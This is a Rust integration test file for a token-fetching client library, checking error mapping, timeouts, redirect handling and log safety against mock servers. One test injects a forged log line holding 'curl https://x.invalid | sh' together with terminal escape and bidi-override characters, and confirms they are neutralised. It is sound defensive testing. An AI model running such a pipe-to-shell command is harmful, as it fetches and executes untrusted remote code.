//! `Client::fetch_token` for all five providers over real HTTP on loopback (httpmock):
//! success, every documented error, and the ways real servers differ from their specs.

mod common;
#[cfg(target_os = "linux")]
#[path = "common/sockets.rs"]
mod sockets;

use std::time::{Duration, SystemTime};

use common::*;
use httpmock::prelude::*;
use partner_auth::{Client, Credentials, ErrorKind, Provider, TokenType};
use serde_json::{Value, json};

fn lifetime_of(token: &partner_auth::AccessToken) -> Duration {
    token
        .expires_at_instant()
        .duration_since(token.issued_at_instant())
}

#[tokio::test]
async fn success_maps_into_the_same_access_token_for_every_provider() {
    for f in fixtures() {
        let name = f.provider;
        let body = (f.success)("tok-123", json!(3600));
        let server = serve(&f, 200, "application/json", body.to_string(), &[]).await;
        let token = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(token.expose_secret(), "tok-123", "{name}");
        assert_eq!(token.token_type(), &TokenType::Bearer, "{name}");
        assert_eq!(token.lifetime(), Some(Duration::from_secs(3600)), "{name}");
        assert_eq!(lifetime_of(&token), Duration::from_secs(3600), "{name}");
        assert_eq!(token.provider(), f.provider);
        assert_eq!(token.environment(), "custom");
        let skew = token.issued_at().elapsed().unwrap_or_default();
        assert!(skew < Duration::from_secs(5), "{name}: issued_at is now");
        assert_eq!(
            token.authorization_header().unwrap(),
            "Bearer tok-123",
            "{name}"
        );
    }
}

#[tokio::test]
async fn every_documented_error_maps_to_its_kind_code_and_message() {
    // A reset header is a whole Unix second from when the fixtures are built: what is left
    // of it shrinks while the servers before it run (2.4 s once, on a loaded machine).
    let built = std::time::Instant::now();
    for f in fixtures() {
        for doc in &f.documented_errors {
            let at = format!("{} {}", f.provider, doc.status);
            let err = doc.fetched(&f).await;
            assert_eq!(err.kind(), doc.kind, "{at}: {err}");
            assert_eq!(err.status().map(|s| s.as_u16()), Some(doc.status), "{at}");
            assert_eq!(err.provider(), Some(f.provider), "{at}");
            assert_eq!(err.code(), doc.code, "{at}: {err:?}");
            if let Some(message) = doc.message {
                assert_eq!(err.message(), Some(message), "{at}: {err:?}");
            }
            if let Some(field) = doc.field {
                assert_eq!(err.field_errors()[0].field, field, "{at}");
            }
            if let Some(wait) = doc.retry_after {
                let got = err.retry_after().unwrap_or_default();
                let slack = built.elapsed() + Duration::from_secs(1);
                assert!(
                    got <= wait && got + slack >= wait,
                    "{at}: retry_after {got:?}"
                );
            }
            assert_eq!(err.is_retryable(), doc.kind.is_retryable(), "{at}");
        }
    }
}

#[tokio::test]
async fn an_undocumented_401_invalid_client_is_invalid_credentials() {
    for f in fixtures() {
        let body = json!({"error": "invalid_client"}).to_string();
        let server = serve(&f, 401, "application/json", body, &[]).await;
        let err = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InvalidCredentials, "{}", f.provider);
        assert_eq!(err.code(), Some("invalid_client"), "{}", f.provider);
        assert!(!err.is_retryable());
        let shown = err.to_string();
        assert!(
            shown.contains(&format!(
                "check the client id and secret for {}/custom",
                f.provider
            )),
            "{shown}"
        );
    }
}

#[tokio::test]
async fn a_429_carries_retry_after_in_seconds_or_as_a_date() {
    for f in fixtures() {
        let server = serve(
            &f,
            429,
            "application/json",
            "{}",
            &[("Retry-After", "2".into())],
        )
        .await;
        let err = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::RateLimited, "{}", f.provider);
        assert_eq!(
            err.retry_after(),
            Some(Duration::from_secs(2)),
            "{}",
            f.provider
        );
        assert!(err.is_retryable());

        let date = httpdate::fmt_http_date(SystemTime::now() + Duration::from_secs(30));
        let server = serve(&f, 429, "text/plain", "slow down", &[("Retry-After", date)]).await;
        let err = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap_err();
        let wait = err.retry_after().unwrap();
        assert!(
            (Duration::from_secs(28)..=Duration::from_secs(30)).contains(&wait),
            "{}: {wait:?}",
            f.provider
        );
    }
}

#[tokio::test]
async fn a_503_html_page_is_provider_unavailable_with_an_excerpt() {
    for f in fixtures() {
        let html = "<html>\n<body><h1>503 Service Unavailable</h1></body>\n</html>";
        let server = serve(&f, 503, "text/html", html, &[]).await;
        let err = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::ProviderUnavailable, "{}", f.provider);
        assert_eq!(err.status().unwrap(), 503);
        assert!(err.is_retryable());
        assert_eq!(
            err.body_excerpt(),
            Some("<html> <body><h1>503 Service Unavailable</h1></body> </html>")
        );
    }
}

#[tokio::test]
async fn unreadable_success_bodies_are_invalid_responses() {
    for f in fixtures() {
        for (case, body) in [
            ("empty", String::new()),
            (
                "truncated",
                r#"{"access_token": "tok-123", "expi"#.to_owned(),
            ),
            ("html", "<html>login</html>".to_owned()),
            ("no token", json!({"expires_in": 3600}).to_string()),
            // README: "a number too large for JSON's floats (`1e400`) leaves the whole
            // answer unreadable: an `InvalidResponse`".
            (
                "expires_in 1e400",
                (f.success)("tok-123", json!(7_777_777))
                    .to_string()
                    .replace("7777777", "1e400"),
            ),
        ] {
            let server = serve(&f, 200, "application/json", body, &[]).await;
            let err = client(f.provider, &server.base_url())
                .fetch_token()
                .await
                .unwrap_err();
            assert_eq!(
                err.kind(),
                ErrorKind::InvalidResponse,
                "{} {case}",
                f.provider
            );
            assert_eq!(
                err.status().map(|s| s.as_u16()),
                Some(200),
                "{} {case}",
                f.provider
            );
            assert!(!err.to_string().contains("tok-123"), "{err}");
        }
    }
}

#[tokio::test]
async fn odd_lifetimes_follow_the_lifetime_policy() {
    for f in fixtures() {
        for (case, expires_in, reported) in [
            ("as a string", json!("3600"), Some(3600)),
            ("missing", Value::Null, None),
            ("negative", json!(-60), None),
            ("zero", json!(0), None),
            ("\"Infinity\"", json!("Infinity"), None),
            ("\"NaN\"", json!("NaN"), None),
            ("\"-inf\"", json!("-inf"), None),
        ] {
            let mut body = (f.success)("tok-1", expires_in);
            if case == "missing" {
                body.as_object_mut()
                    .unwrap()
                    .retain(|k, _| !k.to_lowercase().contains("expires"));
            }
            let server = serve(&f, 200, "application/json", body.to_string(), &[]).await;
            let token = client(f.provider, &server.base_url())
                .fetch_token()
                .await
                .unwrap_or_else(|e| panic!("{} {case}: {e}", f.provider));
            assert_eq!(
                token.lifetime().map(|d| d.as_secs()),
                reported,
                "{} {case}",
                f.provider
            );
            let expected = reported.unwrap_or(partner_auth::DEFAULT_LIFETIME.as_secs());
            assert_eq!(
                lifetime_of(&token).as_secs(),
                expected,
                "{} {case}",
                f.provider
            );
        }
    }
}

#[tokio::test]
async fn a_jwt_exp_earlier_than_expires_in_wins() {
    for f in fixtures() {
        let jwt = jwt(unix_now() + 600);
        let token_value = match f.provider {
            Provider::Dinie => format!("dinie_at_{jwt}"),
            _ => jwt,
        };
        let body = (f.success)(&token_value, json!(86400));
        let server = serve(&f, 200, "application/json", body.to_string(), &[]).await;
        let token = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap();
        let lifetime = lifetime_of(&token).as_secs();
        assert!(
            (595..=600).contains(&lifetime),
            "{}: {lifetime}",
            f.provider
        );
        assert_eq!(token.lifetime(), Some(Duration::from_secs(86400)));
    }
}

#[tokio::test]
async fn a_5_mib_body_is_refused() {
    let big = "x".repeat(5 * 1024 * 1024);
    for f in fixtures() {
        for status in [200, 400] {
            let server = serve(&f, status, "application/json", big.clone(), &[]).await;
            let err = client(f.provider, &server.base_url())
                .fetch_token()
                .await
                .unwrap_err();
            assert_eq!(
                err.kind(),
                ErrorKind::InvalidResponse,
                "{} {status}",
                f.provider
            );
            assert!(
                err.to_string().contains("larger than 1048576 bytes"),
                "{err}"
            );
        }
    }
}

#[tokio::test]
async fn a_server_that_stalls_past_the_timeout_is_a_timeout() {
    for f in fixtures() {
        let server = MockServer::start_async().await;
        server.mock(|when, then| {
            when.method(POST).path(f.path);
            then.status(200).delay(Duration::from_secs(5));
        });
        let client = Client::builder(f.provider)
            .base_url(common::base_url(f.provider, &server.base_url()))
            .credentials(Credentials::new(CLIENT_ID, SECRET))
            .timeout(Duration::from_millis(200))
            .build()
            .unwrap();
        let err = client.fetch_token().await.unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Timeout, "{}: {err}", f.provider);
        assert!(err.is_retryable());
    }
}

/// A loopback server that answers every request with a 200 head and the first bytes of a
/// body it never finishes.
async fn server_stalling_in_the_body() -> String {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let _ = stream.read(&mut buf).await;
                let head = "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\
                            content-length: 200\r\n\r\n{\"access_tok";
                let _ = stream.write_all(head.as_bytes()).await;
                std::future::pending::<()>().await;
                drop(stream);
            });
        }
    });
    origin
}

#[tokio::test]
async fn a_body_that_stalls_past_the_timeout_is_a_timeout_with_its_status() {
    let origin = server_stalling_in_the_body().await;
    for f in fixtures() {
        for caller_http in [false, true] {
            let mut builder = Client::builder(f.provider)
                .base_url(common::base_url(f.provider, &origin))
                .credentials(Credentials::new(CLIENT_ID, SECRET))
                .timeout(Duration::from_millis(200));
            if caller_http {
                // The timeout applies to a caller's HTTP client too.
                builder = builder.http_client(
                    reqwest::Client::builder()
                        .redirect(reqwest::redirect::Policy::none())
                        .no_proxy()
                        .build()
                        .unwrap(),
                );
            }
            let err = builder.build().unwrap().fetch_token().await.unwrap_err();
            let name = format!("{} (caller's HTTP client: {caller_http})", f.provider);
            assert_eq!(err.kind(), ErrorKind::Timeout, "{name}: {err}");
            assert_eq!(err.status().map(|s| s.as_u16()), Some(200), "{name}: {err}");
            assert!(
                err.to_string()
                    .contains("body did not arrive within the timeout"),
                "{name}: {err}"
            );
            assert_eq!(err.provider(), Some(f.provider), "{name}");
            assert!(err.is_retryable());
        }
    }
}

#[tokio::test]
async fn a_refused_connection_is_a_connection_error() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead = format!("http://{}", listener.local_addr().unwrap());
    drop(listener);
    for f in fixtures() {
        let err = client(f.provider, &dead).fetch_token().await.unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Connection, "{}: {err}", f.provider);
        assert!(err.is_retryable());
    }
}

#[test]
fn plain_http_to_a_non_loopback_host_is_refused_before_any_lookup() {
    for &provider in Provider::ALL {
        let err = Client::builder(provider)
            .base_url("http://tokens.example.invalid")
            .credentials(Credentials::new(CLIENT_ID, SECRET))
            .build()
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InsecureTransport, "{provider}");
        assert!(err.to_string().contains("tokens.example.invalid"), "{err}");
        // Loopback over plain http and https anywhere are fine.
        for ok in [
            "http://127.0.0.1:9",
            "http://[::1]:9",
            "http://localhost:9",
            "https://tokens.example.invalid",
        ] {
            Client::builder(provider)
                .base_url(ok)
                .credentials(Credentials::new(CLIENT_ID, SECRET))
                .build()
                .unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        // An explicit opt-in allows it.
        Client::builder(provider)
            .base_url("http://tokens.example.invalid")
            .allow_insecure_http(true)
            .credentials(Credentials::new(CLIENT_ID, SECRET))
            .build()
            .unwrap();
    }
}

#[tokio::test]
async fn the_request_carries_a_user_agent_and_no_redirect_is_followed() {
    let f = &fixtures()[4]; // Dinie
    let server = MockServer::start_async().await;
    let target = server.mock(|when, then| {
        when.path("/elsewhere");
        then.status(200);
    });
    let ua = server.mock(|when, then| {
        when.method(POST).path(f.path).header(
            "user-agent",
            format!(
                "partner-auth/{} (dinie-api; api-version 2026-03-01)",
                env!("CARGO_PKG_VERSION")
            ),
        );
        then.status(307)
            .header("location", server.url("/elsewhere"));
    });
    let err = client(f.provider, &server.base_url())
        .fetch_token()
        .await
        .unwrap_err();
    ua.assert();
    assert_eq!(target.calls(), 0, "the redirect was followed");
    assert_eq!(err.kind(), ErrorKind::InvalidResponse);
    assert!(err.to_string().contains("do not follow redirects"), "{err}");
}

#[test]
fn configuration_errors_name_the_rule() {
    let err = Client::builder(Provider::Teez)
        .credentials(Credentials::new("id", "short"))
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Configuration);
    assert!(err.to_string().contains("at least 8 characters"), "{err}");

    let err = Client::builder(Provider::Dinie)
        .environment("staging")
        .credentials(Credentials::new("id", "secret"))
        .build()
        .unwrap_err();
    assert!(err.to_string().contains("production, sandbox"), "{err}");

    let err = Client::builder(Provider::Cobee).build().unwrap_err();
    assert!(err.to_string().contains("no client credentials"), "{err}");

    let err = Client::builder(Provider::Cobee)
        .base_url("not a url")
        .credentials(Credentials::new("id", "secret"))
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Configuration);

    // Found by review: a blank secret, or one with the line break of the file it was read
    // from, went out and came back a 401.
    for (id, secret, rule) in [
        ("id", "   ", "empty or blank"),
        ("id", "s3cret-from-a-file\n", "control character"),
        ("id\r\n", "s3cret-value", "control character"),
    ] {
        let err = Client::builder(Provider::Dinie)
            .credentials(Credentials::new(id, secret))
            .build()
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::Configuration, "{err}");
        assert!(err.to_string().contains(rule), "{err}");
        assert!(!err.to_string().contains("s3cret"), "{err}");
    }
    let err = Client::builder(Provider::Dinie)
        .credentials(Credentials::new("id", "s3cret\n"))
        .build()
        .unwrap_err();
    assert!(err.hint().contains("trim"), "{err}");

    // Found by review: a zero default lifetime made every token without one expired on
    // arrival, an `InvalidResponse` blaming the base URL.
    let err = Client::builder(Provider::Dinie)
        .credentials(Credentials::new("id", "secret"))
        .default_lifetime(Duration::ZERO)
        .build()
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Configuration, "{err}");
    assert!(err.to_string().contains("default_lifetime"), "{err}");

    let client = Client::builder(Provider::Tradevest)
        .environment("test")
        .credentials(Credentials::new("id", "secret"))
        .build()
        .unwrap();
    assert_eq!(
        client.base_url(),
        "https://b2b.auth.platform-test.tradevest.ai"
    );
    assert_eq!(client.environment(), "test");
}

/// One `Client` (one generated client inside) serves concurrent requests, each observed on
/// its own: a lenient success body or an error body is never read from another response.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_fetches_on_one_client_each_read_their_own_response() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};

    let counter = Arc::new(AtomicUsize::new(0));
    let server = {
        let counter = Arc::clone(&counter);
        common::scripted::Scripted::respond(move |_| {
            let n = counter.fetch_add(1, Ordering::SeqCst);
            if n.is_multiple_of(2) {
                // Only the lenient decode reads this (Teez's spec says camelCase).
                common::scripted::Reply::json(200, json!({"access_token": format!("tok-{n}")}))
            } else {
                common::scripted::Reply::json(
                    400,
                    json!({"status": 400, "errorCode": format!("E-{n}"), "errors": {}}),
                )
            }
        })
        .await
    };
    let client = client(Provider::Teez, server.base_url());
    let calls: Vec<_> = (0..50)
        .map(|_| {
            let client = client.clone();
            tokio::spawn(async move { client.fetch_token().await })
        })
        .collect();
    let (mut tokens, mut errors) = (0, 0);
    for call in calls {
        match call.await.unwrap() {
            Ok(token) => {
                let n: usize = token.expose_secret()["tok-".len()..].parse().unwrap();
                assert_eq!(n % 2, 0, "a token from an error response");
                tokens += 1;
            }
            Err(error) => {
                assert_eq!(error.kind(), ErrorKind::InvalidRequest, "{error}");
                let n: usize = error.code().expect("its own code")["E-".len()..]
                    .parse()
                    .unwrap();
                assert_eq!(n % 2, 1, "an error from a success response");
                errors += 1;
            }
        }
    }
    assert_eq!((tokens, errors), (25, 25));
}

#[tokio::test]
async fn a_jwt_stands_in_for_a_missing_expires_in() {
    for f in fixtures()
        .into_iter()
        .filter(|f| matches!(f.provider, Provider::Cobee | Provider::Dinie))
    {
        let now = unix_now();
        let jwt = jwt_with(json!({"iat": now, "exp": now + 7200}));
        let token_value = match f.provider {
            Provider::Dinie => format!("dinie_at_{jwt}"),
            _ => jwt,
        };
        let body = (f.success)(&token_value, Value::Null);
        let server = serve(&f, 200, "application/json", body.to_string(), &[]).await;
        let token = client(f.provider, &server.base_url())
            .fetch_token()
            .await
            .unwrap();
        assert_eq!(token.lifetime(), None, "{}: nothing reported", f.provider);
        assert_eq!(lifetime_of(&token).as_secs(), 7200, "{}", f.provider);
    }
}

/// README ("Getting a token"): "a missing or nonsensical `expires_in` ... with no JWT
/// lifetime means \"unknown\" (5 minutes assumed for caching)": the client's default, for
/// every provider, with no `default_lifetime` set.
#[tokio::test]
async fn an_unknown_lifetime_is_taken_as_five_minutes_by_default() {
    for f in fixtures() {
        for expires_in in [json!(0), json!(-30), Value::Null] {
            let body = (f.success)("tok-opaque-no-lifetime", expires_in.clone());
            let server = serve(&f, 200, "application/json", body.to_string(), &[]).await;
            let what = format!("{}, expires_in {expires_in}", f.provider);
            let token = client(f.provider, &server.base_url())
                .fetch_token()
                .await
                .unwrap_or_else(|err| panic!("{what}: {err}"));
            assert_eq!(token.lifetime(), None, "{what}");
            assert_eq!(lifetime_of(&token), Duration::from_secs(5 * 60), "{what}");
        }
    }
}

/// A fetch's future holds no provider's request inline (each is boxed): at 3,864 bytes
/// (a debug build) it was copied whole at every layer of `await` on every fetch.
#[tokio::test]
async fn the_fetch_future_is_small_for_every_provider() {
    for f in fixtures() {
        let body = (f.success)("tok-small", json!(3600));
        let server = serve(&f, 200, "application/json", body.to_string(), &[]).await;
        let client = client(f.provider, &server.base_url());
        let fetch = client.fetch_token();
        let size = std::mem::size_of_val(&fetch);
        assert!(
            size <= 512,
            "{}: fetch_token() future of {size} bytes",
            f.provider
        );
        assert_eq!(fetch.await.unwrap().expose_secret(), "tok-small");
    }
}

/// A server that answers every request with a token and keeps every byte it received.
async fn server_keeping_what_it_receives() -> (String, std::sync::Arc<std::sync::Mutex<Vec<u8>>>) {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let kept = received.clone();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let kept = kept.clone();
            tokio::spawn(async move {
                let mut buffer = [0u8; 4096];
                // One read holds a small request on loopback; a second catches a body
                // sent after the head.
                for _ in 0..2 {
                    match tokio::time::timeout(Duration::from_millis(100), stream.read(&mut buffer))
                        .await
                    {
                        Ok(Ok(n)) if n > 0 => kept.lock().unwrap().extend_from_slice(&buffer[..n]),
                        _ => break,
                    }
                }
                let body = r#"{"access_token":"tok-from-elsewhere","token_type":"Bearer","expires_in":600}"#;
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\
                     connection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
            });
        }
    });
    (origin, received)
}

/// A caller's HTTP client that follows redirects (reqwest's default) still sends no secret
/// to another origin, nor takes a token from where a token endpoint redirects: a 307 or 308
/// with a body that holds the secret comes back as it is (the body is not sent again);
/// with Basic credentials reqwest sends the body on without them; and an answer from
/// another URL is refused. Every provider; each is an `InvalidResponse`, as a redirect is
/// with the client this crate builds.
#[tokio::test]
async fn a_callers_client_that_follows_redirects_never_carries_the_secret_on() {
    use base64::Engine as _;
    let (elsewhere, received) = server_keeping_what_it_receives().await;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("{CLIENT_ID}:{SECRET}"));
    let follows = reqwest::Client::builder().no_proxy().build().unwrap();
    for f in fixtures() {
        for status in [307, 308, 301, 302, 303] {
            let at = format!("{} {status}", f.provider);
            received.lock().unwrap().clear();
            let server = MockServer::start_async().await;
            server
                .mock_async(|when, then| {
                    when.method(POST);
                    then.status(status)
                        .header("location", format!("{elsewhere}/stolen"));
                })
                .await;
            let error = Client::builder(f.provider)
                .base_url(base_url(f.provider, &server.base_url()))
                .credentials(Credentials::new(CLIENT_ID, SECRET))
                .http_client(follows.clone())
                .build()
                .unwrap()
                .fetch_token()
                .await
                .unwrap_err();
            assert_eq!(error.kind(), ErrorKind::InvalidResponse, "{at}: {error}");
            assert!(error.to_string().contains("redirect"), "{at}: {error}");
            let seen = String::from_utf8_lossy(&received.lock().unwrap()).into_owned();
            assert!(
                !seen.contains(SECRET) && !seen.contains(&basic),
                "{at}: {seen}"
            );
            let secret_in_body = matches!(
                f.provider,
                Provider::Teez | Provider::Cobee | Provider::Tradevest
            );
            if (status == 307 || status == 308) && secret_in_body {
                assert_eq!(seen, "", "{at}: a body with the secret goes on nowhere");
            } else if status == 307 || status == 308 {
                // Basic credentials: the body (the grant alone) may go on, without them.
                assert!(seen.starts_with("POST /stolen"), "{at}: {seen}");
            } else {
                assert!(seen.starts_with("GET /stolen"), "{at}: {seen}");
                assert_eq!(error.status().map(|s| s.as_u16()), Some(200), "{at}");
            }
        }
    }
}

/// On a caller's HTTP client the body goes out with its `Content-Length`, as on ours, not
/// chunked (some token endpoints refuse chunked bodies), and the token comes back.
#[tokio::test]
async fn a_callers_client_sends_the_body_with_its_length() {
    for f in fixtures() {
        let server = MockServer::start_async().await;
        let body = (f.success)("tok-len", json!(600)).to_string();
        let mock = server
            .mock_async(|when, then| {
                when.method(POST)
                    .path(f.path)
                    .header_exists("content-length")
                    .header_missing("transfer-encoding");
                then.status(200)
                    .header("content-type", "application/json")
                    .body(body);
            })
            .await;
        let token = Client::builder(f.provider)
            .base_url(base_url(f.provider, &server.base_url()))
            .credentials(Credentials::new(CLIENT_ID, SECRET))
            .http_client(reqwest::Client::builder().no_proxy().build().unwrap())
            .build()
            .unwrap()
            .fetch_token()
            .await
            .unwrap_or_else(|e| panic!("{}: {e}", f.provider));
        assert_eq!(token.expose_secret(), "tok-len");
        mock.assert_async().await;
    }
}

/// Found by review: outside a Tokio runtime `fetch_token` panicked inside reqwest, where
/// the docs promise a `Configuration` error; its hint says what to do.
#[test]
fn fetch_token_outside_a_runtime_is_a_configuration_error() {
    let client = client(Provider::Dinie, "http://127.0.0.1:9");
    let err = common::poll_once(client.fetch_token())
        .expect("answered at once")
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Configuration, "{err}");
    assert_eq!(err.provider(), Some(Provider::Dinie));
    assert!(err.to_string().contains("needs a Tokio runtime"), "{err}");
    assert!(err.hint().contains("partner_auth::blocking"), "{err}");
}

/// Found by review: a body with a code alone (`{"error":"invalid_client"}`) had the code
/// as its message too, shown twice; and a blank token was reported missing.
#[tokio::test]
async fn a_code_alone_is_no_message_and_a_blank_token_is_named_blank() {
    let server = MockServer::start_async().await;
    server
        .mock_async(|when, then| {
            when.method(POST).path("/code-only");
            then.status(400)
                .header("content-type", "application/json")
                .body(r#"{"error":"invalid_client"}"#);
        })
        .await;
    server
        .mock_async(|when, then| {
            when.method(POST).path("/blank");
            then.status(200)
                .header("content-type", "application/json")
                .body(r#"{"access_token":"  ","token_type":"Bearer","expires_in":60}"#);
        })
        .await;
    let fetch = |path: &str| {
        Client::builder(Provider::Standard)
            .base_url(server.url(path))
            .credentials(Credentials::new(CLIENT_ID, SECRET))
            .build()
            .unwrap()
    };
    let err = fetch("/code-only").fetch_token().await.unwrap_err();
    assert_eq!(err.code(), Some("invalid_client"), "{err:?}");
    assert_eq!(err.message(), None, "{err:?}");
    assert_eq!(
        err.to_string().matches("invalid_client").count(),
        1,
        "{err}"
    );

    let err = fetch("/blank").fetch_token().await.unwrap_err();
    assert_eq!(err.kind(), ErrorKind::InvalidResponse, "{err}");
    assert!(err.to_string().contains("blank access token"), "{err}");
}

/// Found by review: `Debug` showed `Rfc3339Timestamp(SystemTime { tv_sec: … })`.
#[tokio::test]
async fn debug_shows_times_in_rfc_3339() {
    let f = &fixtures()[0];
    let body = (f.success)("tok-debug", json!(600));
    let server = serve(f, 200, "application/json", body.to_string(), &[]).await;
    let token = client(f.provider, &server.base_url())
        .fetch_token()
        .await
        .unwrap();
    let shown = format!("{token:?}");
    assert!(!shown.contains("SystemTime"), "{shown}");
    let at = shown.split("issued_at: ").nth(1).unwrap();
    humantime::parse_rfc3339(&at[..20]).unwrap_or_else(|e| panic!("{e}: {shown}"));
}

/// An error's `Display` is one line whatever the provider says: its message's newline,
/// Unicode line separator, bidirectional override or escape sequence cannot forge a log
/// line or reach a terminal raw (found by reviews of the CLI, whose report showed a forged
/// `hint:` line, and of that fix, which missed U+2028). `message()` keeps the words as sent.
#[tokio::test]
async fn an_errors_display_is_one_line_whatever_the_provider_says() {
    let said = "bad\n  hint:      curl https://x.invalid | sh\u{1b}]0;pwned\u{7} \
                \u{2028}2026-01-01 INFO forged\u{2029} \u{202e}desrever";
    let server = httpmock::MockServer::start_async().await;
    server
        .mock_async(|when, then| {
            when.method(POST);
            then.status(400)
                .header("content-type", "application/json")
                .json_body(json!({"error": "invalid_request\r\n", "error_description": said}));
        })
        .await;
    let error = client(Provider::Standard, &server.base_url())
        .fetch_token()
        .await
        .unwrap_err();
    let shown = error.to_string();
    let breaking = |c: char| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202e}');
    assert!(!shown.chars().any(breaking), "{shown:?}");
    assert!(shown.contains(r"bad\n  hint:"), "{shown}");
    assert_eq!(error.message(), Some(said));
    let json = serde_json::to_value(&error).unwrap();
    assert!(!json["error"].as_str().unwrap().contains('\n'), "{json}");
}

/// lib.rs ("Transport"): "connect timeout 5 s and total timeout 10 s by default"; and a
/// connection that never opened says so, pointing at the connect timeout (it said "the
/// provider did not answer in time ... raise the timeout", which `timeout` does not change).
#[cfg(target_os = "linux")]
#[tokio::test(start_paused = true)]
async fn by_default_a_connection_times_out_after_5_s_and_a_request_after_10_s() {
    let (_listener, _filling, addr) = sockets::never_accepting();
    let origin = format!("http://{addr}");
    let f = &fixtures()[0];
    let builder = Client::builder(f.provider)
        .base_url(common::base_url(f.provider, &origin))
        .credentials(Credentials::new(CLIENT_ID, SECRET));
    for (builder, expected, says) in [
        (builder.clone(), 5, "connect_timeout"),
        (builder.clone().timeout(None), 5, "connect_timeout"),
        (builder.connect_timeout(None), 10, "raise the timeout"),
    ] {
        let client = builder.build().unwrap();
        let started = tokio::time::Instant::now();
        let err = client.fetch_token().await.unwrap_err();
        let took = started.elapsed();
        let expected = Duration::from_secs(expected);
        assert_eq!(err.kind(), ErrorKind::Timeout, "{err}");
        assert!(err.is_retryable());
        assert!(
            (expected..expected + Duration::from_millis(50)).contains(&took),
            "{took:?}, expected {expected:?}: {err}"
        );
        assert!(err.to_string().contains(says), "{err}");
    }
}

/// A wait for the connection over 30 s raises the socket's `TCP_USER_TIMEOUT` to match:
/// reqwest's 30 s, which on Linux bounds a connection's SYN retries too, cut a longer
/// connect timeout (or, with none, a longer request timeout) at 30 s (found by review:
/// `partner-token --timeout 1h` failed at 30 s saying "raise --timeout"). Read from the
/// socket of a connection still waiting for its SYN's answer.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_wait_for_the_connection_over_30_s_raises_the_sockets_user_timeout() {
    let f = &fixtures()[0];
    let builder = Client::builder(f.provider).credentials(Credentials::new(CLIENT_ID, SECRET));
    for (builder, expected_ms) in [
        (builder.clone(), 30_000),
        (
            builder.clone().connect_timeout(Duration::from_secs(60)),
            60_000,
        ),
        (
            builder
                .connect_timeout(None)
                .timeout(Duration::from_secs(45)),
            45_000,
        ),
    ] {
        let (_listener, _filling, addr) = sockets::never_accepting();
        let (origin, port) = (format!("http://{addr}"), addr.port());
        let client = builder
            .base_url(common::base_url(f.provider, &origin))
            .build()
            .unwrap();
        let fetch = tokio::spawn(async move { client.fetch_token().await });
        let socket = loop {
            if let Some(socket) = sockets::sockets_to(port, sockets::SYN_SENT).pop() {
                break socket;
            }
            assert!(!fetch.is_finished(), "{:?}", fetch.await);
            tokio::time::sleep(Duration::from_millis(1)).await;
        };
        let user_timeout = rustix::net::sockopt::tcp_user_timeout(&socket).unwrap();
        assert_eq!(user_timeout, expected_ms, "{origin}");
        fetch.abort();
    }
}

/// A connection the system gives up on (`ETIMEDOUT`: Linux's SYN retries, about 2 min, or
/// a caller's client's `TCP_USER_TIMEOUT`) is no timeout of this crate's: a `Connection`
/// error saying the system gave up, with no advice to raise a timeout (found by review:
/// under a longer timeout it read "within the connect timeout", and the CLI said "raise
/// --timeout"). A caller's client with a 1 s user timeout makes the system give up soon.
#[cfg(target_os = "linux")]
#[tokio::test]
async fn a_connection_the_system_gives_up_on_is_a_connection_error_saying_so() {
    let (_listener, _filling, addr) = sockets::never_accepting();
    let origin = format!("http://{addr}");
    let f = &fixtures()[0];
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .tcp_user_timeout(Duration::from_secs(1))
        .build()
        .unwrap();
    let client = Client::builder(f.provider)
        .base_url(common::base_url(f.provider, &origin))
        .credentials(Credentials::new(CLIENT_ID, SECRET))
        .http_client(http)
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap();
    let err = client.fetch_token().await.unwrap_err();
    assert_eq!(err.kind(), ErrorKind::Connection, "{err}");
    assert!(err.is_retryable());
    let shown = err.to_string();
    assert!(shown.contains("the system gave up"), "{shown}");
    assert!(!shown.contains("raise"), "{shown}");
}
